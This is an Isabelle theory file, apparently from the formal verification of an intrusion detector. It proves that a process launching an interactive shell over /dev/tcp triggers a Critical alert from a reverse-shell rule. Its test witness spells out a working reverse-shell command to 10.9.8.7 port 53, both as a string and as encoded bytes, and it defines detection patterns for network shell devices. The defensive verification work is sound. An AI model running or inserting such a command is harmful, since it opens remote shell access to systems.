(* ===== verification/Shell_Alert.thy ===== *)
theory Shell_Alert
  imports End_To_End Rule_Matches
begin

section \<open>Trimming keeps what is not blank\<close>

lemma trim_keeps:
  assumes "u \<noteq> []" "\<not> is_space (hd u)" "\<not> is_space (last u)"
  shows "\<exists>p' q'. go_trim_space (p @ u @ q) = p' @ u @ q'"
proof -
  have left: "\<exists>p'. dropWhile is_space (p @ v) = p' @ v" if "v \<noteq> []" "\<not> is_space (hd v)" for p v :: string
  proof (induction p)
    case Nil
    then show ?case using that by (cases v) auto
  next
    case (Cons c p)
    then show ?case by (cases "is_space c") (auto intro: exI [of _ "c # p"])
  qed
  obtain p' where p': "dropWhile is_space (p @ u @ q) = p' @ u @ q"
    using left [of "u @ q" p] assms(1,2) by auto
  obtain q' where "dropWhile is_space (rev q @ rev u @ rev p') = q' @ rev u @ rev p'"
    using left [of "rev u @ rev p'" "rev q"] assms(1,3) by (auto simp: hd_rev)
  then have "go_trim_space (p @ u @ q) = p' @ u @ rev q'"
    by (simp add: go_trim_space_def p')
  then show ?thesis by blast
qed

lemma set_go_trim_space: "set (go_trim_space s) \<subseteq> set s"
  unfolding go_trim_space_def by (auto dest!: set_dropWhileD)

lemma ascii_subset: "set s \<subseteq> set t \<Longrightarrow> ascii t \<Longrightarrow> ascii s"
  by (auto simp: ascii_def list_all_iff)

lemma space_not_lower: "is_space c \<Longrightarrow> lower_char c = c"
  by (auto simp: is_space_def lower_char_def)

lemma lower_not_space:
  assumes "go_to_lower t \<noteq> []" "\<not> is_space (hd (go_to_lower t))" "\<not> is_space (last (go_to_lower t))"
  shows "t \<noteq> []" "\<not> is_space (hd t)" "\<not> is_space (last t)"
proof -
  show t: "t \<noteq> []" using assms(1) by (auto simp: go_to_lower_def)
  show "\<not> is_space (hd t)" "\<not> is_space (last t)"
    using assms(2,3) t space_not_lower [of "hd t"] space_not_lower [of "last t"]
    by (auto simp: go_to_lower_def hd_map last_map)
qed

lemma plain_chars: "\<not> is_space CHR ''b''" "\<not> is_space CHR ''s''" "\<not> is_space CHR ''z''" "\<not> is_space CHR ''d''"
  "\<not> is_space CHR ''k''" "\<not> is_space CHR ''/''" "\<not> is_space CHR ''p''" "\<not> is_space CHR ''h''"
  by code_simp+

lemma shell_name_edges: "shell_name s \<Longrightarrow> s \<noteq> [] \<and> \<not> is_space (hd s)"
  using lower_not_space [of s] by (auto simp: shell_name_def plain_chars)

lemma network_device_edges:
  assumes "network_device t"
  shows "t \<noteq> [] \<and> \<not> is_space (last t)"
  using assms unfolding network_device_def
proof (elim disjE exE conjE)
  assume "go_to_lower t \<in> {''/dev/tcp/'', ''/dev/udp/''}"
  then show ?thesis using lower_not_space [of t] by (auto simp: plain_chars)
next
  fix s d assume t: "t = ''>&'' @ s @ d" "go_to_lower d \<in> {''/dev/tcp'', ''/dev/udp''}"
  then have "d \<noteq> [] \<and> \<not> is_space (last d)" using lower_not_space [of d] by (auto simp: plain_chars)
  then show ?thesis using t(1) by simp
qed

text \<open>What is recognised in a text is recognised in a longer one, trimmed or not.\<close>

lemma shell_over_device_trim:
  assumes "shell_over_device h"
  shows "shell_over_device (go_trim_space (x @ h @ y))"
proof -
  obtain pre sh a opt b dev post where h: "h = pre @ sh @ a @ opt @ b @ dev @ post"
    "shell_name sh" "go_to_lower opt = ''-i''" "length a \<le> 60" "newline \<notin> set a" "length b \<le> 60" "newline \<notin> set b"
    "network_device dev"
    using assms unfolding shell_over_device_def by blast
  let ?u = "sh @ a @ opt @ b @ dev"
  have "?u \<noteq> []" "\<not> is_space (hd ?u)" "\<not> is_space (last ?u)"
    using shell_name_edges [OF h(2)] network_device_edges [OF h(8)] by auto
  from trim_keeps [OF this, of "x @ pre" "post @ y"] obtain p' q' where
    "go_trim_space ((x @ pre) @ ?u @ post @ y) = p' @ ?u @ q'" by blast
  then have "go_trim_space (x @ h @ y) = p' @ sh @ a @ opt @ b @ dev @ q'" by (simp add: h(1))
  from shell_over_deviceI [OF this h(2-8)] show ?thesis .
qed

section \<open>A process that starts a shell\<close>

definition sh_path :: "u8 list" where "sh_path = [47, 98, 105, 110, 47, 98, 97, 115, 104]"
definition sh_arg0 :: "u8 list" where "sh_arg0 = [98, 97, 115, 104]"
definition sh_arg1 :: "u8 list" where "sh_arg1 = [45, 99]"
definition sh_arg2 :: "u8 list" where
  "sh_arg2 = [115, 104, 32, 45, 105, 32, 62, 38, 47, 100, 101, 118, 47, 116, 99, 112, 47, 49, 48, 46, 57, 46, 56, 46, 55, 47, 53, 51]"

definition sh_mem :: memory where
  "sh_mem = mem_of [(4096, sh_path @ [0]), (8192, sh_arg0 @ [0]), (8200, sh_arg1 @ [0]), (8448, sh_arg2 @ [0]),
     (12288, [0, 32, 0, 0, 0, 0, 0, 0, 8, 32, 0, 0, 0, 0, 0, 0, 0, 33, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0])]"

definition sh_kernel :: kernel where
  "sh_kernel = ls_kernel\<lparr>kn_mem := sh_mem\<rparr>"

lemmas eval_sh = numeral_steps sh_mem_def sh_arg0_def sh_arg1_def sh_arg2_def sh_path_def load_ptr_def dec_def order_bytes_def

lemma sh_strings:
  "read_cstr sh_mem 8192 128 = Some sh_arg0" "read_cstr sh_mem 8200 128 = Some sh_arg1"
  "read_cstr sh_mem 8448 128 = Some sh_arg2" "read_cstr sh_mem 4096 128 = Some sh_path"
  by (simp_all add: eval_sh)

lemma sh_slots:
  "load_ptr sh_mem Little 12288 = Some 8192" "load_ptr sh_mem Little 12296 = Some 8200"
  "load_ptr sh_mem Little 12304 = Some 8448" "load_ptr sh_mem Little 12312 = Some 0"
  by (simp_all add: eval_sh)

lemma sh_args: "exec_args Little sh_mem 12288 = [sh_arg0, sh_arg1, sh_arg2]"
  by (simp add: exec_args_def numeral_steps(3) MAX_ARGS_def sh_slots sh_strings ARG_CHUNK_def ARGV_LEN_def
      sh_arg0_def sh_arg1_def sh_arg2_def)

definition sh_line :: string where
  "sh_line = ''bash -c sh -i >&/dev/tcp/10.9.8.7/53''"

lemma sh_words: "str_of sh_arg0 = ''bash''" "str_of sh_arg1 = ''-c''" "str_of sh_arg2 = ''sh -i >&/dev/tcp/10.9.8.7/53''"
  "str_of sh_path = ''/bin/bash''"
  by code_simp+

lemma sh_line: "go_join (map str_of (exec_args Little sh_mem 12288)) '' '' = sh_line"
  by (simp add: sh_args sh_words sh_line_def)

lemma sh_shell: "shell_over_device sh_line"
proof -
  have "newline \<noteq> CHR '' ''" "newline \<noteq> CHR ''>''" "newline \<noteq> CHR ''&''" "go_to_lower ''/dev/tcp/'' = ''/dev/tcp/''"
    by code_simp+
  then show ?thesis
    by (intro shell_over_deviceI [of _ "''bash -c ''" "''sh''" "'' ''" "''-i''" "'' >&''" "''/dev/tcp/''" "''10.9.8.7/53''"])
      (simp_all add: sh_line_def shell_name_def lower_words network_device_def)
qed

section \<open>Properties\<close>

text \<open>
  C7 (safety). From the system call to the alert: on a little-endian machine with room in the
  ring, an \<^verbatim>\<open>execve\<close> whose captured arguments, joined by blanks, have an interactive shell over a
  network device in them, all in ASCII, is one Critical alert of a fresh program with the
  shipped rules, and every alert channel has it in its queue. The rule \<^verbatim>\<open>rshell-devtcp\<close> must be in
  use, and \<^verbatim>\<open>regexp.Compile\<close> agree with the model on its pattern.
\<close>

theorem shell_to_alert:
  assumes "user_memory ops records pending view room" and "length (args ctx) = 6"
    and "room k (sizeof_struct exec_event_decl)"
    and "agrees compile (rd_pattern (hd reverse_shell_rules))" and "new_app compile builtinRules cfg = Some a"
    and "''rshell-devtcp'' \<notin> set (cf_disabled cfg)"
    and "read_cstr (v_mem (view k)) (args ctx ! 0) FNAME_LEN = Some path" and "ascii (str_of path)"
    and "line = go_join (map str_of (exec_args Little (v_mem (view k)) (args ctx ! 1))) '' ''"
    and "ascii line" and "shell_over_device line"
  shows "\<exists>d ev alert. submitted records k (trace_execve ops Little ctx k) = Some [d] \<and>
    parse Little now host d = Ret (Some ev) \<and> fst (app_step ev clock a) = [alert] \<and>
    field_of alert ''cmdline'' = line \<and> e_severity alert = Critical \<and>
    (\<forall>i < length (NewManager cfg). di_queue (ap_alerts (snd (app_step ev clock a)) ! i) = [alert])"
proof -
  let ?v = "view k"
  obtain e where d: "submitted records k (trace_execve ops Little ctx k) = Some [encode_exec Little e]"
    and e: "exec_spec Little ?v (args ctx ! 0) (args ctx ! 1) e"
    using user_memory.do_exec_content [OF assms(1,3), of 0 ctx 1 Little] assms(2)
    by (auto simp: trace_execve_def dest!: submitted_one)
  obtain ev where ev: "parse Little now host (encode_exec Little e) = Ret (Some ev)" "e_category ev = CatProcess"
      "field_of ev ''exe'' = str_of (take 127 path)" "field_of ev ''cmdline'' = line"
    using exec_event_fields [OF e, of now host] assms(7,9) by blast
  let ?text = "snd (examined ev)"
  have hay: "?text = go_trim_space ((str_of (take 127 path) @ '' '') @ line @ [])"
    by (simp add: examined_def ev)
  have "set (str_of (take 127 path)) \<subseteq> set (str_of path)"
    by (auto simp: str_of_def dest: in_set_takeD)
  from ascii_subset [OF this assms(8)] have "ascii (str_of (take 127 path) @ '' '' @ line)"
    using assms(10) by simp
  then have "ascii ?text"
    unfolding hay using ascii_subset [OF set_go_trim_space] by simp
  moreover have "shell_over_device ?text"
    unfolding hay by (rule shell_over_device_trim [OF assms(11)])
  ultimately obtain alert where alert: "fst (Evaluate (ap_engine a) ev) = [alert]" "observed alert = observed ev"
    "e_severity alert = Critical"
    using reverse_shell_critical [OF assms(4) new_app_fields(1) [OF assms(5)] assms(6)] ev(2) by blast
  note step = app_step_fresh [OF assms(5) alert(1), of clock]
  have "di_queue (Dispatch alert (NewManager cfg) ! i) = [alert]" if "i < length (NewManager cfg)" for i
    using Dispatch_queues [OF that, of "[alert]"] alert(3) Critical_greatest by (simp add: newest_def queue_cap_def)
  then show ?thesis
    using d ev step alert field_observed [OF alert(2), of "''cmdline''"] by auto
qed

theorem shell_to_alert_witness:
  "\<exists>cfg a d ev alert. Default False = Some cfg \<and> new_app modelled_regexp builtinRules cfg = Some a \<and>
    submitted kn_records sh_kernel
      (trace_execve kernel_ops Little (ctx_of [4096, 12288, 0, 0, 0, 0]) sh_kernel) = Some [d] \<and>
    parse Little 0 ''host'' d = Ret (Some ev) \<and> fst (app_step ev (\<lambda>_. 0) a) = [alert] \<and>
    field_of alert ''cmdline'' = sh_line \<and> e_severity alert = Critical"
proof -
  obtain cfg e where cfg: "Default False = Some cfg" "NewEngine modelled_regexp builtinRules cfg = Some e"
    "cf_disabled cfg = []"
    using default_engine .
  from cfg(2) obtain a where a: "new_app modelled_regexp builtinRules cfg = Some a" by (auto simp: new_app_def)
  have room: "kn_room sh_kernel (sizeof_struct exec_event_decl)"
    by (simp add: kn_room_def sh_kernel_def ls_kernel_def ring_size_def ring_capacity_def)
  have v: "v_mem (kn_view sh_kernel) = sh_mem" by (simp add: kn_view_def sh_kernel_def)
  have "ascii sh_line" "ascii (str_of sh_path)" by code_simp+
  with shell_to_alert [OF kernel_memory.user_memory_axioms _ room modelled_regexp a, of "ctx_of [4096, 12288, 0, 0, 0, 0]"
      sh_path sh_line 0 "''host''" "\<lambda>_. 0"]
  show ?thesis
    using cfg a sh_strings(4) sh_line sh_shell by (fastforce simp: v FNAME_LEN_def)
qed

end
